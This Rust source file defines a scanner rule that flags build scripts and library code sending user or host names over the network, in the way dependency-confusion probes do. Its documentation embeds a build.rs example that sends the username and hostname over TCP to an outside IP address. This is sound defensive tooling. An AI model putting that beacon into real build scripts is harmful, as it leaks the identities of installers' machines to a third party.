use crate::facts::SinkKind;
use crate::report::Severity;
use crate::rules::{Family, Hit, Input, RuleInfo, in_context};

pub static INFO: RuleInfo = RuleInfo {
    code: "EXF003",
    name: "host-beacon",
    family: Family::Exfiltration,
    severity: Severity::Critical,
    summary: "the user or host name is sent over the network (a beacon); critical at build time",
    doc: "## What it detects\nHost identity (user name, host name, `whoami`, `hostname::get`, `$USER`/`$HOSTNAME`) flowing into a network request or DNS name.\n\n## Why\nDependency-confusion probes (mysten-metrics, lsh 99.0.1, proton-pfff) report which machines installed them, from `build.rs`, so the attacker learns which companies resolve internal names from the public registry. At build time this is critical; in library code, high.\n\n## Example\n```rust\n// build.rs\nlet who = format!(\"{}@{}\", whoami::username(), whoami::hostname());\nTcpStream::connect(\"45.61.1.2:80\")?.write_all(who.as_bytes())?;\n```\n\n## Known false positives\nError-reporting SDKs that attach the host name to reports (sentry's `server_name`): library code, reported as high for review.",
};

pub struct Rule;

impl crate::rules::Rule for Rule {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }
    fn check(&self, i: &Input, out: &mut Vec<Hit>) {
        for f in &i.facts.files {
            let Some(flow) = f.flows.iter().find(|fl| super::is_identity(&fl.source) && fl.sink_kind != SinkKind::Header) else { continue };
            let sev = if f.context.runs_at_build() { Severity::Critical } else { Severity::Medium };
            out.push(Hit::new(
                in_context(sev, f.context),
                &f.path,
                flow.line,
                format!("{} sends {} (line {}) through {} in `{}`", f.context.as_str(), flow.source, flow.source_line, flow.sink, flow.func),
            ));
        }
    }
}
